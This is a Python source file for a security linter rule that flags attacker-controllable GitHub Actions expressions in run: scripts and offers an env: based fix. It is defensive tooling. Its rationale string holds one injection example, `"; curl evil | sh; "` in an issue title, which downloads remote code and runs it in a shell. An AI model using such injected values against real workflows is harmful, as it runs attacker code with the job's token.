"""Attacker-controllable expressions expanded into ``run:`` scripts and github-script."""

import re

from lintkit.expressions import context_refs, find_expressions
from lintkit.model import Edit, Example, Fix, Problem, rule
from lintkit.parsers.github_actions import is_posix_shell, static_env_names, step_scripts, text_offsets
from lintkit.yamledit import set_nested
from lintkit.yamlmodel import YMap, YSeq

#: github.* values the workflow's author or GitHub controls (not the event's sender).
SAFE_GITHUB = frozenset((
    "github.repository", "github.repository_owner", "github.repository_id", "github.repository_owner_id",
    "github.run_id", "github.run_number", "github.run_attempt", "github.sha", "github.workspace",
    "github.job", "github.event_name", "github.server_url", "github.api_url", "github.graphql_url",
    "github.action_path", "github.action", "github.workflow", "github.workflow_ref", "github.workflow_sha",
    "github.token", "github.retention_days", "github.action_repository", "github.action_ref",
    "github.event.pull_request.number", "github.event.number", "github.event.issue.number",
    "github.event.pull_request.head.sha", "github.event.pull_request.base.sha", "github.event.after",
    "github.event.before", "github.event.repository.id", "github.event.repository.full_name",
    "github.event.repository.name", "github.event.workflow_run.id", "github.event.workflow_run.pull_requests",
    "github.event.pull_request.merged", "github.event.pull_request.draft", "github.event.pull_request.id",
    "github.event.release.id", "github.event.installation.id", "github.event.sender.id",
))  # fmt: skip
#: Contexts whose values never come from outside.
SAFE_ROOTS = frozenset(("secrets", "runner", "strategy", "vars", "needs", "jobs"))


@rule(
    id="GH002",
    name="template-injection",
    severity="error",
    summary="Expression an attacker can influence is expanded into a script",
    rationale=(
        "`${{ }}` is replaced before the shell (or github-script's JavaScript) sees the "
        "script, so a value such as an issue title, a branch name or a dispatch input "
        "becomes code: `\"; curl evil | sh; \"` in a title runs with the job's token. Pass "
        "the value through `env:` and use the variable (`\"$TITLE\"`) instead."
    ),
    tags=("security",),
    aliases=("zizmor:template-injection", "actionlint:expression", "CKV_GHA_2"),
    fix="unsafe",
    examples=(
        Example(
            bad=(
                "on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n"
                "      - run: echo \"${{ github.event.issue.title }}\"\n"
            ),
            good=(
                "on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n"
                "      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n"
            ),
            filename=".github/workflows/greet.yml",
        ),
    ),
)
def check(workflow, ctx):
    input_types = _input_types(workflow)
    for step, holder, key in step_scripts(workflow):
        text = holder[key]
        if "${{" not in text:
            continue
        offsets = text_offsets(workflow, holder, key)
        static_env = None
        matrix = _static_matrix(step.job.node)
        for expression in find_expressions(text):
            for ref in context_refs(expression):
                if ref.root == "env":
                    if static_env is None:
                        static_env = static_env_names(workflow, step)
                    name = ref.path.split(".")[1] if "." in ref.path else ""
                    if name in static_env:
                        continue
                why = _risk(ref, input_types, matrix, workflow.is_action)
                if why is None or (ref.root == "env" and why is None):
                    continue
                fix = _fix(workflow, step, key, text, offsets, expression, ref) if key == "run" else None
                yield Problem(offsets.span(ref.start, ref.end), f"`{ref.path}` {why} and is expanded into `{key}:`; pass it through env: instead", fix)


def _env_name(path: str) -> str:
    """``github.event.issue.title`` -> ``ISSUE_TITLE``, ``inputs.tag`` -> ``INPUTS_TAG``."""
    parts = path.split(".")
    if parts[0] == "github":
        parts = parts[2:] if len(parts) > 2 and parts[1] == "event" else parts[1:]
    return re.sub(r"[^A-Za-z0-9]+", "_", "_".join(parts)).strip("_").upper()


def _quoting_at(text: str, offset: int) -> str | None:
    """How the shell reads ``text[offset]``: "" unquoted, '"' in double quotes, None
    where a variable would not expand (single quotes, a here-document, a comment) or
    the quoting is more than this reading follows (backquotes)."""
    states = [""]  # a command substitution $( ) starts unquoted inside double quotes
    index = 0
    while index < offset:
        char = text[index]
        state = states[-1]
        if state == "'":
            if char == "'":
                states[-1] = ""
        elif char == "\\":
            index += 1
        elif char == "`":
            return None
        elif text.startswith("$(", index):
            states.append("")
            index += 1
        elif state == '"':
            if char == '"':
                states[-1] = ""
        elif char == ")" and len(states) > 1:
            states.pop()
        elif char in "'\"":
            states[-1] = char
        elif char == "#" and (index == 0 or text[index - 1].isspace()):
            return None
        elif text.startswith("<<", index):
            return None
        index += 1
    return None if states[-1] == "'" else states[-1]


def _fix(workflow, step, key, text, offsets, expression, ref) -> Fix | None:
    """The expression replaced by an environment variable set in the step's ``env:``,
    as zizmor does. Unsafe: the script then sees the value as data, where it saw it as
    code (which is the point, but a script relying on the expansion changes)."""
    if expression.inner.strip() != ref.path or not is_posix_shell(workflow.shell_of(step)):
        return None
    span = offsets.span(expression.start, expression.end)
    if workflow.source.text_of(span) != expression.text or workflow.source.text_of(step.node.value_span(key))[:1] == '"':
        return None
    quoting = _quoting_at(text, expression.start)
    if quoting is None:
        return None
    if not quoting and expression.start == 0 and workflow.source.text_of(step.node.value_span(key))[:1] not in ("|", ">", "'"):
        return None  # a plain scalar opening with a quote would become a quoted one
    name = _env_name(ref.path)
    env = step.node.get("env")
    if isinstance(env, YMap) and name in env:
        if env[name] != expression.text:
            return None
        edits: tuple = ()
    else:
        edits = set_nested(workflow.source, step.node, ("env", name), expression.text) or None
        if edits is None:
            return None
    variable = "${" + name + "}" if quoting else '"${' + name + '}"'
    return Fix(f"pass {ref.path} through env {name}", (Edit(span, variable), *edits))


def _risk(ref, input_types, matrix, is_action) -> str | None:
    root = ref.root
    if root in SAFE_ROOTS:
        return None
    if root == "github":
        if ref.path in SAFE_GITHUB or ref.path.endswith((".id", ".number")):
            return None
        return "can be set by whoever triggers the workflow"
    if root == "inputs":
        name = ref.path.split(".")[1] if "." in ref.path else ""
        if input_types.get(name) in ("boolean", "number", "choice", "environment"):
            return None
        return "is a free-text input"
    if root == "matrix":
        name = ref.path.split(".")[1] if "." in ref.path else ""
        if name in matrix:
            return None
        return "comes from a matrix that is not a list of constants"
    if root == "env":
        return "is an environment variable not set to a constant in this workflow"
    if root == "steps":
        return "is a step output, which may carry outside data"
    if root == "job":
        return None if ref.path != "job.status" else "is the job status"
    return None


def _input_types(workflow) -> dict[str, str]:
    types: dict[str, str] = {}
    sources = []
    if workflow.is_action:
        sources.append(workflow.root.get("inputs"))
    else:
        for event in ("workflow_dispatch", "workflow_call"):
            config = workflow.triggers.get(event)
            if isinstance(config, YMap):
                sources.append(config.get("inputs"))
    for inputs in sources:
        if isinstance(inputs, YMap):
            for name, spec in inputs.items():
                kind = spec.get("type") if isinstance(spec, YMap) else None
                types.setdefault(str(name), kind if isinstance(kind, str) else "string")
    return types


def _static_matrix(job: YMap) -> set[str]:
    """Matrix axes whose values are all constants written in the workflow."""
    strategy = job.get("strategy")
    matrix = strategy.get("matrix") if isinstance(strategy, YMap) else None
    if not isinstance(matrix, YMap):
        return set()
    axes = set()
    for name, values in matrix.items():
        if name in ("include", "exclude"):
            continue
        if isinstance(values, YSeq) and all(not isinstance(v, str) or "${{" not in v for v in values):
            axes.add(name)
    include = matrix.get("include")
    if isinstance(include, YSeq):
        for entry in include:
            if isinstance(entry, YMap):
                axes.update(k for k, v in entry.items() if not (isinstance(v, str) and "${{" in v))
    return axes
